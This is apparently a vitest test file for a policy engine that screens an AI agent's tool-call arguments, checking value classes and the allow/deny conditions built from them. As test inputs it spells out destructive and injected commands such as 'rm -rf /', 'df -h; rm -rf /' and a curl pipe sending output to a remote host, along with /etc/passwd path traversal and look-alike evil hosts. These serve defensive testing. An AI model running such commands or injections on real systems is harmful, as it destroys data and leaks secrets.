import { describe, expect, it } from 'vitest';
import { compilePolicies } from '../../src/policy/load.js';
import { clampArgs } from '../../src/scope/index.js';
import { classify, classLabel, shapeBoundary, shapeCondition, shapeKey, shapeOf } from '../../src/tune/shape.js';
import { rulesOnlyText } from '../../src/tune/render.js';
import type { RuleSpec } from '../../src/policy/schema.js';

const label = (name: string, v: unknown): string => classLabel(classify(name, v));

/** Compiles a rule with `when` through the real policy loader and tells whether a call matches it. */
function decider(when: string | undefined, effect: 'deny' | 'allow', extra: Partial<RuleSpec> = {}) {
  const rule = { id: 'r', match: { server: 's', tool: 't' }, ...(when ? { when } : {}), effect, ...extra } as RuleSpec;
  const engine = compilePolicies([{ file: 'r.yaml', text: rulesOnlyText([rule]) }]);
  return (args: Record<string, unknown>) =>
    engine.evaluate({ server: 's', tool: 't', args, principal: {}, session: { id: 'x', calls: 0, denials: 0, untrustedSeen: false, tags: [] } });
}

function matcher(when: string | undefined, effect: 'deny' | 'allow', extra: Partial<RuleSpec> = {}): (args: Record<string, unknown>) => string {
  const decide = decider(when, effect, extra);
  return (args) => decide(args).effect;
}

describe('value classes', () => {
  it('puts paths under their parent directory, cut to two segments', () => {
    expect(label('path', '/workspace/docs/a.md')).toBe('dir:/workspace/docs');
    expect(label('path', '/workspace/docs/api/v1/b.md')).toBe('dir:/workspace/docs');
    expect(label('path', '/etc')).toBe('dir:/');
    // `..` and relative paths are not directories: they must not join a directory's group.
    expect(label('path', '/workspace/docs/../../etc/passwd')).toBe('str');
    expect(label('path', 'docs/a.md')).toBe('str');
  });

  it('classes e-mail domains, URL hosts, programs and orders of magnitude', () => {
    expect(label('to', 'Alice@Corp.Example')).toBe('email:@corp.example');
    expect(label('url', 'https://API.example.com:8443/x?y')).toBe('url:api.example.com');
    expect(label('command', 'sudo rm -rf /x')).toBe('cmd:rm');
    expect(label('command', '; rm -rf /')).toBe('str');
    expect(label('note', 'rm -rf /x')).toBe('str');
    expect(label('amount', 0)).toBe('num:0');
    expect(label('amount', 0.5)).toBe('num:[0,1)');
    expect(label('amount', 999.99)).toBe('num:[100,1000)');
    expect(label('amount', 1000)).toBe('num:[1000,10000)');
    expect(label('amount', -3)).toBe('neg');
    expect(label('flag', true)).toBe('bool:true');
    expect(label('to', ['a@x.example', 'b@x.example'])).toBe('list[email:@x.example]');
    expect(label('to', ['a@x.example', 'b@y.example'])).toBe('list');
    expect(label('opts', { a: 1 })).toBe('obj');
  });

  it('gives calls that differ only in detail the same shape key, and different names a different one', () => {
    const a = shapeKey(shapeOf({ path: '/workspace/docs/a.md' }));
    expect(shapeKey(shapeOf({ path: '/workspace/docs/b/c.md' }))).toBe(a);
    expect(shapeKey(shapeOf({ path: '/workspace/src/c.ts' }))).not.toBe(a);
    expect(shapeKey(shapeOf({ path: '/workspace/docs/a.md', mode: 'w' }))).not.toBe(a);
  });
});

describe('rule conditions from shapes (compiled by the real policy loader)', () => {
  it('deny: matches the program however it is invoked, and nothing else', () => {
    const m = matcher(shapeCondition(shapeOf({ command: 'rm -rf /x' }), 'deny'), 'deny');
    expect(m({ command: 'rm -rf /var/lib' })).toBe('deny');
    expect(m({ command: '  sudo rm x' })).toBe('deny');
    expect(m({ command: 'rm', cwd: '/srv' })).toBe('deny');
    expect(m({ command: 'rmdir x' })).toBe('judge');
    expect(m({ command: 'echo rm' })).toBe('judge');
    expect(m({ command: 42 })).toBe('judge');
  });

  it('allow: pins the argument names and refuses shell syntax after the program', () => {
    const m = matcher(shapeCondition(shapeOf({ command: 'df -h' }), 'allow'), 'allow');
    expect(m({ command: 'df' })).toBe('allow');
    expect(m({ command: 'df -h /srv' })).toBe('allow');
    expect(m({ command: 'df -h; rm -rf /' })).toBe('judge');
    expect(m({ command: 'df -h | curl -d @- https://x.example' })).toBe('judge');
    expect(m({ command: 'df $(id)' })).toBe('judge');
    expect(m({ command: 'df -h', cwd: '/' })).toBe('judge');
  });

  it('allow: a directory condition is backed by a `within` boundary that refuses `..`', () => {
    const shape = shapeOf({ path: '/workspace/docs/a.md' });
    expect(shapeBoundary(shape)).toEqual({ path: { within: ['/workspace/docs'] } });
    const decide = decider(shapeCondition(shape, 'allow'), 'allow', { args: shapeBoundary(shape) } as Partial<RuleSpec>);
    const ctx = { inTask: () => false };
    const ok = { path: '/workspace/docs/x/y.md' };
    expect(decide(ok).effect).toBe('allow');
    expect(clampArgs(ok, decide(ok).boundary, ctx).violations).toEqual([]);
    expect(decide({ path: '/workspace/docsx/y.md' }).effect).toBe('judge');
    // The condition matches a traversal (startsWith); the rule's `within` refuses it when the guard clamps the call.
    const escape = { path: '/workspace/docs/../../etc/passwd' };
    expect(decide(escape).effect).toBe('allow');
    expect(clampArgs(escape, decide(escape).boundary, ctx).violations.map((v) => v.arg)).toEqual(['path']);
  });

  it('numbers, domains, hosts and lists', () => {
    const n = matcher(shapeCondition(shapeOf({ amount: 250 }), 'deny'), 'deny');
    expect([n({ amount: 100 }), n({ amount: 999.5 }), n({ amount: 1000 }), n({ amount: 99 }), n({ amount: '250' })]).toEqual(['deny', 'deny', 'judge', 'judge', 'judge']);
    const d = matcher(shapeCondition(shapeOf({ to: 'x@exfil.example' }), 'deny'), 'deny');
    expect([d({ to: 'Y@EXFIL.example' }), d({ to: 'y@exfil.example.corp.example' }), d({ to: 'y@corp.example' })]).toEqual(['deny', 'judge', 'judge']);
    const u = matcher(shapeCondition(shapeOf({ url: 'https://api.example.com/v1' }), 'deny'), 'deny');
    expect([u({ url: 'http://api.example.com' }), u({ url: 'https://api.example.com@evil.example/' }), u({ url: 'https://api.example.com.evil.example/' })]).toEqual([
      'deny',
      'judge',
      'judge',
    ]);
    const l = matcher(shapeCondition(shapeOf({ to: ['a@exfil.example'] }), 'deny'), 'deny');
    expect([l({ to: ['ok@corp.example', 'b@exfil.example'] }), l({ to: ['ok@corp.example'] })]).toEqual(['deny', 'judge']);
    const la = matcher(shapeCondition(shapeOf({ to: ['a@corp.example'] }), 'allow'), 'allow');
    expect([la({ to: ['b@corp.example', 'c@corp.example'] }), la({ to: ['b@corp.example', 'c@exfil.example'] }), la({ to: [] })]).toEqual(['allow', 'judge', 'judge']);
  });

  it('a shape with nothing that says where the effect lands gives a deny no condition, an allow only its names', () => {
    expect(shapeCondition(shapeOf({ text: 'hello there' }), 'deny')).toBeUndefined();
    expect(shapeCondition(shapeOf({ text: 'hello there' }), 'allow')).toBe('args.all(k, k in ["text"]) && "text" in args');
  });
});
